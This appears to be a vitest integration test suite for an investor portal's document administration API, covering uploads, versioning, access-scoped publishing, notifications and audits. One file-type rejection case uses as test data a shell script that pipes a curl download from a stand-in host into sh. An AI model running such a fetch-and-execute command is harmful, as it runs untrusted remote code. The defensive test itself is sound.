import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  adminDocumentsAnswer,
  documentAnswer,
  investorDocumentsAnswer,
  messageAnswer,
  type PropertyDocument as PropertyDocumentAnswer,
} from '@everest/core/contract';
import { currentYear, maxDocumentBytes } from '@everest/core/domain';
import { demoUsers } from '@everest/fixtures';
import { startTestServer, type TestServer } from '../../../test/harness';
import { AuditEvent } from '../audit/audit-event.entity';
import { recordingClient } from '../../../test/test-client';
import { documentFileMessages } from '../files/document-type';
import { StoredFile } from '../files/stored-file.entity';
import { otherOle, plainZip, sampleDoc, sampleDocx, samplePdf, sampleXls, sampleXlsx } from '../../../test/sample-documents';
import { OutboxMessage } from '../mail/outbox-message.entity';
import { PropertyDocument } from './property-document.entity';
import { removeStoredFile, storedFiles as storedFilesOf, tempFiles as tempFilesOf } from '../../../test/stored-files';

const admin = 'admin@example.com';
const investorA = 'investor@example.com';
const investorB = 'investor2@example.com';
const employee = 'employee@example.com';

const accessOf = (email: string) => demoUsers.find((u) => u.email === email)?.propertyAccess ?? [];
/** A property investor A may read and investor B may not. */
const onlyA = accessOf(investorA).find((name) => !accessOf(investorB).includes(name)) ?? '';
/** A property the employee may read, so that the notification test covers employees. */
const employeesProperty = accessOf(employee)[0] ?? '';

describe('property documents administration', () => {
  let server: TestServer;
  let client: ReturnType<typeof recordingClient>;
  const tokens = new Map<string, string>();

  beforeAll(async () => {
    expect(onlyA).not.toBe('');
    server = await startTestServer({ seed: true });
    client = recordingClient(server);
    for (const email of [admin, investorA, investorB, employee]) tokens.set(email, await client.signIn(email));
  });
  afterAll(async () => {
    client.expectNoPasswordHashes();
    await server.close();
  });

  const em = () => server.services.orm.em.fork();
  const token = (email = admin) => tokens.get(email) ?? '';
  const post = (route: string, body: unknown) => client.call(route, { body, token: token() });
  const storedFiles = () => storedFilesOf(server.services.files);
  const tempFiles = () => tempFilesOf(server.services.files);
  const lastOutboxId = async () => (await em().findOne(OutboxMessage, { id: { $gt: 0 } }, { orderBy: { id: 'desc' } }))?.id ?? 0;
  const mailsAfter = (id: number) => em().find(OutboxMessage, { id: { $gt: id } }, { orderBy: { id: 'asc' } });

  /** A multipart form as a browser's FormData sends it, to `route`. */
  async function sendForm(route: string, fields: Record<string, string>, file?: { bytes: Buffer; name: string }) {
    const form = new FormData();
    for (const [key, value] of Object.entries(fields)) form.set(key, value);
    if (file) form.set('document', new Blob([new Uint8Array(file.bytes)]), file.name);
    const res = await server.api(route, { method: 'POST', headers: { authorization: `Bearer ${token()}` }, body: form });
    const text = await res.text();
    return { status: res.status, text, json: JSON.parse(text) as unknown };
  }

  const fields = (changes: Record<string, string> = {}) => ({
    title: 'Q2 Quarterly Report',
    property: onlyA,
    year: String(currentYear()),
    quarter: 'Q2',
    emailNotification: 'false',
    ...changes,
  });

  async function upload(changes: Record<string, string>, bytes: Buffer, name = 'report.pdf'): Promise<PropertyDocumentAnswer> {
    const res = await sendForm('/api/admin/upload-document', fields(changes), { bytes, name });
    expect(res.status, res.text).toBe(200);
    return documentAnswer.parse(res.json).document;
  }

  async function portalList(email: string) {
    const res = await client.call('/api/investor/documents', { token: token(email) });
    expect(res.status, res.text).toBe(200);
    return investorDocumentsAnswer.parse(res.json).documents.filter((d) => d.documentType === 'property');
  }

  const download = (email: string, id: number) =>
    server.api(`/api/investor/download/${id}`, { headers: { authorization: `Bearer ${token(email)}` } });

  async function adminList() {
    const res = await client.call('/api/admin/documents', { token: token() });
    expect(res.status, res.text).toBe(200);
    return adminDocumentsAnswer.parse(res.json).documents;
  }

  describe('upload-document', () => {
    it('publishes a file of a title and period its property already has as that document\'s next version; another quarter is another document', async () => {
      const title = `Quarterly Report ${Date.now().toString(36)}`;
      const first = await upload({ title, year: '2026', quarter: 'Q2' }, samplePdf(`${title} first`));
      const again = await sendForm('/api/admin/upload-document', fields({ title: title.toUpperCase(), year: '2026', quarter: 'Q2' }), {
        bytes: samplePdf(`${title} restated`),
        name: 'report.pdf',
      });
      expect(again.status, again.text).toBe(200);
      const corrected = documentAnswer.parse(again.json);
      expect(corrected).toMatchObject({ corrected: true, document: { id: first.id, version: 2, title } });
      expect(corrected.message).toContain('was published as its corrected version');
      const next = await upload({ title, year: '2026', quarter: 'Q3' }, samplePdf(`${title} Q3`));
      expect(next.id).not.toBe(first.id);
      expect(next.version).toBe(1);
      expect((await adminList()).filter((d) => d.title === title).map((d) => [d.quarter, d.version]).sort()).toEqual([
        ['Q2', 2],
        ['Q3', 1],
      ]);
    });

    it('publishes to the investors with access at once, with the same bytes, and to nobody else', async () => {
      // Warm both investors' cached lists: the upload must show through them.
      const beforeA = await portalList(investorA);
      await portalList(investorB);
      const outbox = await lastOutboxId();
      const bytes = samplePdf('publishes-to-access');

      const document = await upload({ title: 'Sunrise Q2 Report' }, bytes, 'Sunrise Q2.pdf');
      expect(document).toMatchObject({
        title: 'Sunrise Q2 Report',
        property: onlyA,
        year: currentYear(),
        quarter: 'Q2',
        filename: 'Sunrise Q2.pdf',
        fileSize: bytes.length,
        fileExists: true,
        documentType: 'property',
      });

      const afterA = await portalList(investorA);
      expect(afterA).toHaveLength(beforeA.length + 1);
      expect(afterA.find((d) => d.id === document.id)).toEqual({ ...document, opened: false });
      const res = await download(investorA, document.id);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      expect(Buffer.from(await res.arrayBuffer()).equals(bytes)).toBe(true);

      expect((await portalList(investorB)).map((d) => d.id)).not.toContain(document.id);
      expect((await download(investorB, document.id)).status).toBe(404);
      // No notification was asked for.
      expect(await mailsAfter(outbox)).toEqual([]);
    });

    it("files a 'General' document for every signed-in user", async () => {
      const document = await upload({ title: 'Annual Letter', property: 'general' }, samplePdf('general-letter'));
      expect(document.property).toBe('General');
      for (const email of [investorA, investorB, employee]) {
        expect((await portalList(email)).map((d) => d.id)).toContain(document.id);
      }
    });

    it.each([
      ['Word (.docx)', sampleDocx('docx upload'), 'letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['Excel (.xlsx)', sampleXlsx(), 'figures.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
      ['Word 97 (.doc)', sampleDoc(), 'letter.doc', 'application/msword'],
      ['Excel 97 (.xls)', sampleXls(), 'figures.xls', 'application/vnd.ms-excel'],
    ])('accepts a %s file by its content and serves it with its type', async (_kind, bytes, name, type) => {
      const document = await upload({ title: `Accepts ${name}` }, bytes, name);
      const res = await download(investorA, document.id);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(type);
      expect(Buffer.from(await res.arrayBuffer()).equals(bytes)).toBe(true);
    });

    it('refuses a file over 10 MB with 413, storing nothing', async () => {
      const rows = await em().count(PropertyDocument);
      const files = await storedFiles();
      const big = Buffer.concat([samplePdf('too-big'), Buffer.alloc(maxDocumentBytes + megabyte)]);
      const res = await sendForm('/api/admin/upload-document', fields(), { bytes: big, name: 'big.pdf' });
      expect(res.status, res.text).toBe(413);
      expect(res.json).toEqual({ error: documentFileMessages.tooLarge });
      expect(await em().count(PropertyDocument)).toBe(rows);
      expect(await storedFiles()).toEqual(files);
      expect(await tempFiles()).toEqual([]);
    });

    it('refuses a file over 10 MB sent without a length (chunked) with 413 while it streams', async () => {
      const files = await storedFiles();
      const boundary = 'x-boundary-413';
      const head = Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nBig\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="document"; filename="big.pdf"\r\nContent-Type: application/pdf\r\n\r\n`,
      );
      const chunk = Buffer.alloc(megabyte, 0x20);
      let sent = 0;
      const body = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (sent === 0) controller.enqueue(new Uint8Array(Buffer.concat([head, samplePdf('chunked')])));
          else if (sent > 12) controller.close();
          else controller.enqueue(new Uint8Array(chunk));
          sent += 1;
        },
      });
      const res = await server.api('/api/admin/upload-document', {
        method: 'POST',
        headers: { authorization: `Bearer ${token()}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
        body,
        duplex: 'half',
      } as RequestInit);
      expect(res.status).toBe(413);
      expect(await storedFiles()).toEqual(files);
      expect(await tempFiles()).toEqual([]);
    });

    it.each([
      ['any zip renamed .docx', plainZip(), 'report.docx', documentFileMessages.wrongType],
      ['a script named .pdf', Buffer.from('#!/bin/sh\ncurl http://example.com/x | sh\n'), 'report.pdf', documentFileMessages.wrongType],
      ['an OLE file that is neither Word nor Excel, named .doc', otherOle(), 'message.doc', documentFileMessages.wrongType],
      [
        'a workbook named .docx',
        sampleXlsx(),
        'report.docx',
        'Invalid File Type: "report.docx" is a Excel workbook (.xlsx), but its name ends in ".docx". Please check the file and upload it again.',
      ],
      [
        'a Word document named .pdf',
        sampleDoc(),
        'report.pdf',
        'Invalid File Type: "report.pdf" is a Word document (.doc), but its name ends in ".pdf". Please check the file and upload it again.',
      ],
    ])('refuses %s with 415, storing nothing', async (_case, bytes, name, message) => {
      const rows = await em().count(PropertyDocument);
      const stored = await em().count(StoredFile);
      const files = await storedFiles();
      const res = await sendForm('/api/admin/upload-document', fields(), { bytes, name });
      expect(res.status, res.text).toBe(415);
      expect(res.json).toEqual({ error: message });
      expect(await em().count(PropertyDocument)).toBe(rows);
      expect(await em().count(StoredFile)).toBe(stored);
      expect(await storedFiles()).toEqual(files);
      expect(await tempFiles()).toEqual([]);
    });

    it('refuses a property that does not exist before keeping the file, and a form without a file', async () => {
      const files = await storedFiles();
      const unknown = await sendForm('/api/admin/upload-document', fields({ property: 'Nowhere Plaza' }), {
        bytes: samplePdf('unknown-property'),
        name: 'x.pdf',
      });
      expect(unknown.status).toBe(400);
      expect(unknown.json).toEqual({
        error: `There is no property named "Nowhere Plaza". Please choose one from the list, or 'General' for a document of no property.`,
      });
      expect(await storedFiles()).toEqual(files);
      const noFile = await sendForm('/api/admin/upload-document', fields());
      expect(noFile.status).toBe(400);
      expect(noFile.json).toEqual({ error: documentFileMessages.noFile });
      const longName = await sendForm('/api/admin/upload-document', fields(), { bytes: samplePdf('long-name'), name: `${'a'.repeat(252)}.pdf` });
      expect(longName.status).toBe(400);
      expect(longName.json).toEqual({ error: documentFileMessages.nameTooLong });
      expect(await storedFiles()).toEqual(files);
      expect(await tempFiles()).toEqual([]);
    });

    it('refuses a year before 2014 or in the future, and a missing title, with sentences', async () => {
      const pdf = { bytes: samplePdf('bad-year'), name: 'x.pdf' };
      const early = await sendForm('/api/admin/upload-document', fields({ year: '2013' }), pdf);
      expect(early.json).toEqual({ error: 'Please choose a year from 2014 onwards.' });
      const future = await sendForm('/api/admin/upload-document', fields({ year: String(currentYear() + 1) }), pdf);
      expect(future.json).toEqual({ error: 'Please choose a year that is not in the future.' });
      const untitled = await sendForm('/api/admin/upload-document', fields({ title: '  ' }), pdf);
      expect(untitled.json).toEqual({ error: 'Please enter a document title.' });
      expect(await tempFiles()).toEqual([]);
    });

    it('audits the upload with what was published', async () => {
      const document = await upload({ title: 'Audited Report' }, samplePdf('audited'));
      const audit = await em().findOneOrFail(AuditEvent, { action: 'upload-document', documentId: document.id });
      expect(audit).toMatchObject({ documentType: 'property' });
      expect(audit.details).toMatchObject({
        actorEmail: admin,
        subject: { type: 'document', id: document.id, label: 'Audited Report' },
        after: { title: 'Audited Report', property: onlyA, quarter: 'Q2', filename: 'report.pdf', emailNotification: false, notified: 0 },
      });
    });
  });

  describe('notifications', () => {
    const expectedFor = (property: string | null, inactive: string) =>
      demoUsers
        .filter((u) => u.role !== 'administrator' && u.email !== inactive)
        .filter((u) => property === null || u.propertyAccess.includes(property))
        .map((u) => u.email)
        .sort();

    it("e-mails every active investor and employee with access, once each, with a link to the portal and not the file", async () => {
      // One of them deactivated: they cannot sign in, so they are not told.
      const withAccess = expectedFor(employeesProperty, '');
      const inactive = withAccess.find((email) => email !== employee) ?? '';
      expect(inactive).not.toBe('');
      await em().getConnection().execute('update users set is_active = false where email = ?', [inactive]);
      try {
        const outbox = await lastOutboxId();
        const document = await upload({ title: 'Notified Report', property: employeesProperty, emailNotification: 'true' }, samplePdf('notified'));
        const mails = await mailsAfter(outbox);
        expect(mails.map((m) => m.recipient).sort()).toEqual(expectedFor(employeesProperty, inactive));
        expect(mails.map((m) => m.recipient)).toContain(employee);
        expect(mails.map((m) => m.recipient)).not.toContain(admin);
        for (const mail of mails) {
          expect(mail.subject).toBe('A new document is available in your investor portal');
          expect(mail.text).toContain('Notified Report');
          expect(mail.text).toContain(`${server.services.config.publicUrl}/investor-services`);
          expect(mail.text).not.toContain('/api/investor/download');
          expect(mail.html).not.toContain(String(document.id) + '?');
        }
      } finally {
        await em().getConnection().execute('update users set is_active = true where email = ?', [inactive]);
      }
    });

    it("e-mails every active investor and employee for a 'General' document", async () => {
      const outbox = await lastOutboxId();
      await upload({ title: 'General Notice', property: 'General', emailNotification: 'true' }, samplePdf('general-notified'));
      expect((await mailsAfter(outbox)).map((m) => m.recipient).sort()).toEqual(expectedFor(null, ''));
    });
  });

  describe('update-document', () => {
    it('refiles a document, the portals follow at once, and the audit row holds only what changed', async () => {
      const document = await upload({ title: 'To Be Moved' }, samplePdf('moved'));
      expect((await portalList(investorB)).map((d) => d.id)).not.toContain(document.id);
      const res = await post('/api/admin/update-document', {
        documentId: document.id,
        title: 'Moved to General',
        property: 'General',
        year: 2024,
        quarter: 'Q4',
      });
      expect(res.status, res.text).toBe(200);
      expect(documentAnswer.parse(res.json).document).toMatchObject({ title: 'Moved to General', property: 'General', year: 2024, quarter: 'Q4' });
      expect((await portalList(investorB)).find((d) => d.id === document.id)).toMatchObject({ title: 'Moved to General' });
      const audit = await em().findOneOrFail(AuditEvent, { action: 'update-document', documentId: document.id });
      expect(audit.details).toMatchObject({
        before: { title: 'To Be Moved', property: onlyA, year: currentYear(), quarter: 'Q2' },
        after: { title: 'Moved to General', property: 'General', year: 2024, quarter: 'Q4' },
      });
      expect(Object.keys((audit.details as { after: object }).after).sort()).toEqual(['property', 'quarter', 'title', 'year']);
    });

    it('answers 404 for a document that does not exist and 400 for an unknown property', async () => {
      const missing = await post('/api/admin/update-document', { documentId: 999999, title: 'X', property: 'General', year: 2024, quarter: 'Q1' });
      expect(missing.status).toBe(404);
      expect(missing.json).toEqual({ error: 'This document does not exist. It may have been deleted.' });
      const document = await upload({ title: 'Stays Put' }, samplePdf('stays'));
      const unknown = await post('/api/admin/update-document', { documentId: document.id, title: 'X', property: 'Nowhere', year: 2024, quarter: 'Q1' });
      expect(unknown.status).toBe(400);
      expect((await adminList()).find((d) => d.id === document.id)?.title).toBe('Stays Put');
    });
  });

  describe('replace-document', () => {
    async function replace(id: number, bytes: Buffer, name: string) {
      return sendForm(`/api/admin/replace-document/${id}`, {}, { bytes, name });
    }

    it.each([
      ['the same bytes', (original: Buffer) => original],
      ['new bytes', () => samplePdf('replacement bytes')],
    ])("gives a 'File Missing' document its file back with %s", async (_case, replacement) => {
      const original = samplePdf(`missing-${_case}`);
      const document = await upload({ title: `Missing File ${_case}` }, original);
      const sha = (await em().findOneOrFail(PropertyDocument, document.id, { populate: ['file'] })).file.sha256;
      await removeStoredFile(server.services.files, sha);
      // The download finds it gone (410), and the lists say so from then on.
      expect((await download(investorA, document.id)).status).toBe(410);
      expect((await adminList()).find((d) => d.id === document.id)?.fileExists).toBe(false);
      expect((await portalList(investorA)).find((d) => d.id === document.id)?.fileExists).toBe(false);

      const bytes = replacement(original);
      const res = await replace(document.id, bytes, 'replaced.pdf');
      expect(res.status, res.text).toBe(200);
      expect(documentAnswer.parse(res.json).document).toMatchObject({ fileExists: true, filename: 'replaced.pdf', title: document.title });
      expect((await adminList()).find((d) => d.id === document.id)?.fileExists).toBe(true);
      expect((await portalList(investorA)).find((d) => d.id === document.id)?.fileExists).toBe(true);
      const res2 = await download(investorA, document.id);
      expect(res2.status).toBe(200);
      expect(Buffer.from(await res2.arrayBuffer()).equals(bytes)).toBe(true);
      const audit = await em().findOneOrFail(AuditEvent, { action: 'replace-document', documentId: document.id });
      expect(audit.details).toMatchObject({ before: { sha256: sha }, after: { filename: 'replaced.pdf' } });
    });

    it('refuses a wrong type with 415 and keeps the old file; 404 for a document that does not exist', async () => {
      const document = await upload({ title: 'Keeps Its File' }, samplePdf('keeps'));
      const res = await replace(document.id, plainZip(), 'x.docx');
      expect(res.status).toBe(415);
      expect((await adminList()).find((d) => d.id === document.id)).toMatchObject({ filename: 'report.pdf', fileExists: true });
      const missing = await replace(999999, samplePdf('nothing'), 'x.pdf');
      expect(missing.status).toBe(404);
      expect(await tempFiles()).toEqual([]);
    });
  });

  describe('delete-document', () => {
    it('removes the document from every portal at once, and audits it', async () => {
      const document = await upload({ title: 'Deleted Soon' }, samplePdf('deleted'));
      expect((await portalList(investorA)).map((d) => d.id)).toContain(document.id);
      const res = await post('/api/admin/delete-document', { documentId: document.id });
      expect(res.status, res.text).toBe(200);
      expect(messageAnswer.parse(res.json).message).toBe('Document "Deleted Soon" deleted.');
      expect((await portalList(investorA)).map((d) => d.id)).not.toContain(document.id);
      expect((await download(investorA, document.id)).status).toBe(404);
      const audit = await em().findOneOrFail(AuditEvent, { action: 'delete-document', documentId: document.id });
      expect(audit.details).toMatchObject({ before: { title: 'Deleted Soon', property: onlyA } });
      const again = await post('/api/admin/delete-document', { documentId: document.id });
      expect(again.status).toBe(404);
    });
  });

  describe('GET /api/admin/documents', () => {
    it('lists every document, year descending, then quarter descending, then title', async () => {
      const documents = await adminList();
      expect(documents.length).toBe(await em().count(PropertyDocument));
      const key = (d: PropertyDocumentAnswer) => [-d.year, -Number(d.quarter.slice(1)), d.title.toLowerCase()] as const;
      for (let i = 1; i < documents.length; i += 1) {
        const [a, b] = [key(documents[i - 1] as PropertyDocumentAnswer), key(documents[i] as PropertyDocumentAnswer)];
        const order = a[0] - b[0] || a[1] - b[1] || (a[2] < b[2] ? -1 : a[2] > b[2] ? 1 : 0);
        expect(order, `${a.join()} before ${b.join()}`).toBeLessThanOrEqual(0);
      }
    });
  });
});

const megabyte = 1024 * 1024;
